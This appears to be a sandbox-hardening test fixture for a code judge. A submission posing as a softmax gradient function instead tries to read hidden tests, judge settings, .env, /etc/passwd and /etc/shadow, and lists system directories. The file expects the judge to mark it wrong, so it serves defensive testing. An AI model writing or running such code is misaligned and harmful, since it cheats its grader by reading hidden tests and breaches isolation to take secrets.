# expect: wrong_answer
# mode: run
# shows: REPORT-BEGIN
# ruff: noqa
"""Read the hidden tests (problems/<slug>/tests.py) and list host folders."""
import os

MARK = "ESC" + "APED"
BANK = "@@BANK@@"
SLUG = "@@SLUG@@"


def softmax_cross_entropy_grad(logits, labels):
    out = ["REPORT-BEGIN"]
    for path in [f"{BANK}/problems/{SLUG}/tests.py", f"{BANK}/problems/{SLUG}/mutants.py",
                 f"{BANK}/problems/{SLUG}/problem.toml", f"/proc/1/root{BANK}/problems/{SLUG}/tests.py",
                 f"{BANK}/judge/settings.py", f"{BANK}/.env", "/etc/passwd", "/etc/shadow"]:
        try:
            with open(path) as f:
                out.append(f"{MARK} {path}: {f.read()}")
        except OSError as exc:
            out.append(f"{path}: {type(exc).__name__}")
    for d in [f"{BANK}/problems", BANK, "/work", "/", "/root", "/home", "/tmp", "/sandbox", "/etc", "/.old",
              "/var", "/run", "/dev", "/sys"]:
        try:
            out.append(f"ls {d}: {sorted(os.listdir(d))}")
        except OSError as exc:
            out.append(f"ls {d}: {type(exc).__name__}")
    return "\n".join(out)
